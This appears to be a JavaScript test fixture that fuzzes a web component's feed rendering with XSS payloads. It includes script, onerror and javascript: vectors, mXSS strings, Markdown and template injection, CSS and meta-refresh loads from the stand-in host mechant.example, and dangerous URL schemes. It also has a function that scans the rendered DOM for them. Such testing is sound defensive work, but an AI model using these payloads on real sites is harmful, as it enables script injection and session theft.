/** Strings and addresses that would run something or fetch something if anybody let them, and feeds full of them. */

const run = "globalThis.hacked=1";
const thief = "https://mechant.example/";

/** What runs by itself, or when touched, once it is parsed as HTML. */
const elements = [
  `<script>${run}</script>`,
  `<ScRiPt src=${thief}x.js></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<img/src="x"/onerror="${run}">`,
  `<img src=${thief}x.png>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<style>@import "${thief}x.css";*{background:url(${thief}x.png)}</style>`,
  `<link rel=stylesheet href=${thief}x.css>`,
  `<meta http-equiv=refresh content="0;url=${thief}">`,
  `<base href=${thief}>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<rally-sheet-card feed="${thief}feed.json"></rally-sheet-card>`,
];

/** What would let them out of where they stand. */
const ways = [
  "",
  '"',
  "'>",
  '">',
  "</style>",
  "</textarea>",
  "</title>",
  "</script>",
  "-->",
  "]]>",
  "`",
  "\u0000",
];

/** What other readers than that of HTML would run: those of Markdown, of templates, of styles, of calendars. */
const others = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](<java\tscript:${run}>)`,
  `[x](javascript&colon;${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `![x](${thief}x.png)`,
  `![x](x" onerror="${run})`,
  `<javascript:${run}>`,
  `[x][y]\n\n[y]: javascript:${run}`,
  `[x](https://x.example/" onmouseover="${run})`,
  `\${${run}}`,
  `{{constructor.constructor("${run}")()}}`,
  `<!--?lit$0$-->\${${run}}`,
  "?lit$123456789$",
  "<?lit$123456789$>",
  `");${run}//`,
  `';${run}//`,
  `</span><img src=x onerror=${run}>`,
  `x;background:url(${thief}x.png)`,
  `expression(${run})`,
  `BEGIN:VEVENT\r\nURL:javascript:${run}\r\nATTACH:${thief}`,
  "\u202e\u2066<img src=x onerror=globalThis.hacked=1>",
  "__proto__",
  "constructor",
];

/** Several hundred texts. */
export const texts = [...ways.flatMap((way) => elements.map((element) => way + element)), ...others];

/** Addresses that no link, picture or form may take. */
export const addresses = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\tjavascript:",
  "\u0001javascript:",
  "java\tscript:",
  "java\nscript:",
  "javascript\t:",
  "javascript://https://x.example/%0a",
  "javascript&colon;",
  "java&#115;cript:",
  "\u00a0javascript:",
  "view-source:javascript:",
  "vbscript:",
  "livescript:",
  "feed:javascript:",
  "data:text/html,<script>parent.hacked=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked=1'/>",
  "data:text/javascript,globalThis.hacked=1//",
  "data:application/json,",
  "blob:https://mechant.example/",
  "blob:null/",
  "filesystem:https://mechant.example/",
  "file:///etc/passwd?",
  "about:srcdoc?",
  "intent://x#Intent;scheme=javascript;S.x=",
  "ftp://mechant.example/",
  "ws://mechant.example/",
  "https://[",
  "https://rally.example:99999/",
  "//",
].flatMap((start) => [start + run, `${start}${run}" onerror="${run}`]);

/** Keys whose values are no text for people: changed, they would cost a feed the record that is to be attacked. */
const kept =
  /^(format|version|updated|language|id|timeZone|country|insee|postcode|precision|role|partner|stage|innovation|themes|kinds?|status|start|end|dayPart|time|opens|closes|until|published|day|deadline|registrationDeadline|mediaType|icon|color|departments|year|bytes|size|type|coordinates|bbox|outline|criteria)$/;
const isAddress = /^(url|src|endpoint|detail|calendarUrl|registrationUrl)$/;

/** A feed in which every text is one of the texts and every address one of the addresses; `turn` chooses which ones where. */
export function hostile(feed, turn) {
  let text = turn * 37;
  let address = turn * 11;
  const change = (value, key) => {
    if (kept.test(key) && typeof value !== "object") return value;
    if (kept.test(key) && Array.isArray(value) && value.every((each) => typeof each !== "object"))
      return value;
    if (Array.isArray(value)) return value.map((each) => change(each, key));
    if (value && typeof value === "object") {
      return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, change(each, name)]));
    }
    if (typeof value !== "string") return value;
    if (isAddress.test(key)) return addresses[(address += 1) % addresses.length];
    return texts[(text += 1) % texts.length];
  };
  return change(feed, "");
}

/** Every element of the page, those in shadow roots too, whose attributes could run or fetch something. */
export function findDangers() {
  const found = [];
  const visit = (root) => {
    for (const element of root.querySelectorAll("*")) {
      for (const {name, value} of element.attributes) {
        if (root !== document && (name.startsWith("on") || name === "srcdoc")) {
          found.push(`${element.localName} ${name}`);
        }
        if (
          root !== document &&
          ["href", "src", "action", "formaction", "xlink:href", "poster", "data"].includes(name) &&
          !/^(https?|tel|mailto|blob):|^[#/]|^$/i.test(value)
        ) {
          found.push(`${element.localName} ${name}=${value}`);
        }
        if (root !== document && name === "style" && value.includes("url(")) {
          found.push(`${element.localName} style=${value}`);
        }
      }
      if (root !== document && ["script", "iframe", "object", "embed", "base"].includes(element.localName)) {
        found.push(element.localName);
      }
      if (element.shadowRoot) visit(element.shadowRoot);
    }
  };
  visit(document);
  return found;
}
